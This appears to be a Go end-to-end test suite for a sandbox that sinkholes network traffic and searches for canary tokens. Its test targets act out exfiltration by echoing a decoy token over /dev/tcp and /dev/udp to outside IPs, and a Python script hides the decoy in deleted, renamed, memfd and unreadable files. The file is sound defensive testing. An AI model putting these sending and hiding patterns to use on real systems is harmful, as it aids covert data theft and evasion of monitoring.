//go:build linux && e2e

package sandbox_test

import (
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/coalmine-dev/coalmine/canaries"
	"github.com/coalmine-dev/coalmine/sandbox"
	"github.com/coalmine-dev/coalmine/sandbox/agent"
	"github.com/coalmine-dev/coalmine/sandbox/sandboxtest"
	"github.com/coalmine-dev/coalmine/sandbox/session"
	"github.com/coalmine-dev/coalmine/sandbox/trace"
)

const decoySent = "q8Zk2vR4mT0xWb7NfLcJ1sYh"

// sunk puts a run into a sinkhole that knows one decoy.
func sunk(s sandbox.Spec) sandbox.Spec {
	s.Network, s.Canaries = &agent.Network{}, []canaries.Canary{{ID: "decoy", Kind: "token", Value: decoySent}}
	return s
}

// said joins what a run sent on flows to a port, and counts the hits.
func said(flows []trace.Flow, port uint16) (text string, hits int) {
	to := map[uint64]bool{}
	for _, f := range flows {
		switch {
		case f.Type == trace.FlowOpen && f.Dest.Port() == port:
			to[f.Flow] = true
		case f.Type == trace.FlowData && to[f.Flow]:
			text += string(f.Data)
		case f.Type == trace.FlowHit && to[f.Flow] && f.Canary == "decoy":
			hits++
		}
	}
	return text, hits
}

// TestSinkholeTellsWhatWasSentBeforeASync: all that a target has sent when a
// sync begins is with the sink when it returns, TCP and UDP, without any wait.
func TestSinkholeTellsWhatWasSentBeforeASync(t *testing.T) {
	t.Parallel()
	sandboxtest.Acquire(t, sandboxtest.Light)
	kinds(t, func(t *testing.T, b sandboxtest.Bare, traceSet string) {
		s := spec("bash", "-c", `while read -r n; do
			echo "tcp $n `+decoySent+`" >/dev/tcp/93.184.216.34/7000
			echo "udp $n" >/dev/udp/8.8.8.8/7001
			echo "$n"
		done`)
		s.TraceSet = traceSet
		a := start(t, b, sunk(s))
		for _, n := range []string{"one", "two", "three", "four"} {
			if err := a.Stdin([]byte(n + "\n")); err != nil {
				t.Fatal(err)
			}
			a.sees(t, n, func() bool { return strings.Contains(a.Out(), n+"\n") })
			if err := a.Sync(bounded(t)); err != nil {
				t.Fatal(err)
			}
			tcp, hits := said(a.Flows(), 7000)
			if udp, _ := said(a.Flows(), 7001); !strings.Contains(tcp, "tcp "+n) || !strings.Contains(udp, "udp "+n) || hits == 0 {
				t.Fatalf("after %s: tcp %q, udp %q, %d hits", n, tcp, udp, hits)
			}
		}
		if err := a.Stop(bounded(t), time.Second); err != nil {
			t.Fatal(err)
		}
		a.ends(t)
		if lost := sandboxtest.EventsOf[session.EventLoss](a.Recorder); len(lost) > 0 || a.Lost() != 0 {
			t.Errorf("losses %+v, %d", lost, a.Lost())
		}
	})
}

// TestSinkIsApart: the process that answers is no one's that the target could
// be, holds no capability, and its death is told.
func TestSinkIsApart(t *testing.T) {
	sandboxtest.Acquire(t, sandboxtest.Light)
	sandboxtest.Need(t, "userns")
	if os.Getuid() != 0 {
		t.Skip("an ordinary user may map no second uid")
	}
	s := spec("sh", "-c", `for p in /proc/[0-9]*; do grep -s -e '^Uid:' -e '^CapEff:' -e '^CapBnd:' -e '^NoNewPrivs:' $p/task/*/status; done; echo end; cat`)
	a := start(t, sandboxtest.Bare{}, sunk(s))
	a.sees(t, "the list", func() bool { return strings.Contains(a.Out(), "end") })
	threads, bad := 0, []string{}
	lines := strings.Split(a.Out(), "\n")
	for i, l := range lines {
		if !strings.Contains(l, "65533\t65533\t65533\t65533") {
			continue
		}
		threads++
		for _, more := range lines[i+1 : i+4] {
			value := more[strings.LastIndex(more, "\t")+1:]
			if strings.Contains(more, "Cap") && value != "0000000000000000" || strings.Contains(more, "NoNewPrivs") && value != "1" {
				bad = append(bad, more)
			}
		}
	}
	if threads == 0 || len(bad) > 0 {
		t.Errorf("%d threads of the sink's, with %q in\n%s", threads, bad, a.Out())
	}
	pid := sinkOf(t)
	if err := unix.Kill(pid, unix.SIGKILL); err != nil {
		t.Fatal(err)
	}
	a.sees(t, "the loss", func() bool {
		lost := sandboxtest.EventsOf[session.EventLoss](a.Recorder)
		return len(lost) == 1 && strings.Contains(lost[0].Reason, "the sinkhole ended (SIGKILL)")
	})
	if err := a.Stop(bounded(t), time.Second); err != nil {
		t.Fatal(err)
	}
}

// sinkOf finds the sink below this process.
func sinkOf(t *testing.T) int {
	t.Helper()
	parents, sinks := map[int]int{}, []int{}
	all, _ := os.ReadDir("/proc")
	for _, e := range all {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile("/proc/" + e.Name() + "/status")
		if err != nil {
			continue
		}
		for l := range strings.Lines(string(b)) {
			switch f := strings.Fields(l); f[0] {
			case "PPid:":
				parents[pid], _ = strconv.Atoi(f[1])
			case "Uid:":
				if f[1] == "65533" {
					sinks = append(sinks, pid)
				}
			}
		}
	}
	for _, s := range sinks {
		for p := s; p > 1; p = parents[p] {
			if p == os.Getpid() {
				return s
			}
		}
	}
	t.Fatalf("no sink below %d among %v", os.Getpid(), sinks)
	return 0
}

// writable makes a directory that a target of any uid may write to.
func writable(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "written")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestSearch: a decoy in a file that the target wrote is told, raw and packed,
// and no link leads elsewhere.
func TestSearch(t *testing.T) {
	t.Parallel()
	sandboxtest.Acquire(t, sandboxtest.Light)
	kinds(t, func(t *testing.T, b sandboxtest.Bare, traceSet string) {
		dir := writable(t)
		s := sunk(spec("sh", "-c", "cd "+dir+" && echo 'x "+decoySent+"' >plain && echo "+decoySent+` | gzip >packed && echo none >none && ln -s plain link && mkfifo pipe && echo made; cat`))
		s.TraceSet = traceSet
		a := start(t, b, s)
		a.sees(t, "the files", func() bool { return strings.Contains(a.Out(), "made") })
		var paths []string
		for _, name := range []string{"plain", "packed", "none", "link", "pipe", "absent"} {
			paths = append(paths, dir+"/"+name)
		}
		if left, err := a.Search(bounded(t), paths, false); err != nil || left != 0 {
			t.Fatal(left, err)
		}
		var found []string
		for _, e := range sandboxtest.EventsOf[session.EventFound](a.Recorder) {
			found = append(found, strings.TrimPrefix(e.Path, dir)+" "+e.Canary+" "+e.Encoding)
		}
		if want := []string{"/plain decoy raw", "/packed decoy gzip"}; !slices.Equal(found, want) {
			t.Errorf("found %q, want %q", found, want)
		}
		if err := a.Stop(bounded(t), time.Second); err != nil {
			t.Fatal(err)
		}
		lost := sandboxtest.EventsOf[session.EventLoss](a.Recorder)
		if len(lost) != 1 || lost[0].Code != session.GapFilesNotSearched || !strings.Contains(lost[0].Reason, "/pipe") {
			t.Errorf("losses %+v, want one of the FIFO", lost)
		}
	})
}

// hiding writes the decoy where a search by name may miss it.
const hiding = `import fcntl, os, sys
def put(name):
    fd = os.open(name, os.O_RDWR | os.O_CREAT, 0o600)
    os.write(fd, b"` + decoySent + `")
    return fd
how = sys.argv[1]
if how == "lease":
    fcntl.fcntl(put("a"), fcntl.F_SETLEASE, fcntl.F_WRLCK)
elif how == "name":
    os.close(put(b"\xff"))
elif how == "deleted":
    put("a"); os.unlink("a")
elif how == "moved":
    os.mkdir("d"); os.close(put("d/a")); os.rename("d", "e"); os.symlink("/etc", "d")
elif how == "memfd":
    os.write(os.memfd_create("a"), b"` + decoySent + `")
elif how == "mode":
    os.close(put("a")); os.chmod("a", 0)
print("made", flush=True)
sys.stdin.read()
`

// TestSearchOfWhatIsHidden: whatever a target writes, and however it hides it, is
// found, or a gap says that it was not searched.
func TestSearchOfWhatIsHidden(t *testing.T) {
	t.Parallel()
	sandboxtest.Acquire(t, sandboxtest.Light)
	sandboxtest.Need(t, "python")
	kinds(t, func(t *testing.T, b sandboxtest.Bare, traceSet string) {
		for how, paths := range map[string][]string{
			"lease": {"a"}, "name": {"\xff"}, "deleted": {"a"}, "moved": {"d/a", "e"}, "memfd": nil, "mode": {"a"},
		} {
			dir := writable(t)
			s := sunk(spec("sh", "-c", `cd "$0" && exec python3 -c "$1" "$2"`, dir, hiding, how))
			s.TraceSet = traceSet
			a := start(t, b, s)
			a.sees(t, "the files", func() bool { return strings.Contains(a.Out(), "made") })
			for i, p := range paths {
				paths[i] = dir + "/" + p
			}
			if left, err := a.Search(bounded(t), paths, false); err != nil || left != 0 {
				t.Fatal(left, err)
			}
			found, lost := sandboxtest.EventsOf[session.EventFound](a.Recorder), sandboxtest.EventsOf[session.EventLoss](a.Recorder)
			if len(found)+len(lost) != 1 || len(lost) == 1 && lost[0].Code != session.GapFilesNotSearched || how != "lease" && len(found) == 0 {
				t.Errorf("%s: found %+v, lost %+v", how, found, lost)
			}
			if err := a.Stop(bounded(t), time.Second); err != nil {
				t.Fatal(err)
			}
		}
	})
}

// What a target writes when it is told to end is searched too.
func TestSearchOfWhatIsWrittenLast(t *testing.T) {
	t.Parallel()
	sandboxtest.Acquire(t, sandboxtest.Light)
	kinds(t, func(t *testing.T, b sandboxtest.Bare, traceSet string) {
		dir := writable(t)
		s := sunk(spec("sh", "-c", "echo up; read x; echo "+decoySent+" >"+dir+"/last"))
		s.TraceSet = traceSet
		a := start(t, b, s)
		a.sees(t, "the target", func() bool { return strings.Contains(a.Out(), "up") })
		called := false
		err := a.StopThen(bounded(t), 5*time.Second, false, func() {
			called = true
			if left, err := a.Search(bounded(t), []string{dir + "/last"}, true); err != nil || left != 0 {
				t.Error(left, err)
			}
		})
		if found := sandboxtest.EventsOf[session.EventFound](a.Recorder); err != nil || !called || len(found) != 1 {
			t.Errorf("%v, called %t, found %+v", err, called, found)
		}
		if x := a.ends(t); x != (sandbox.Exit{}) {
			t.Errorf("exit %+v", x)
		}
	})
}
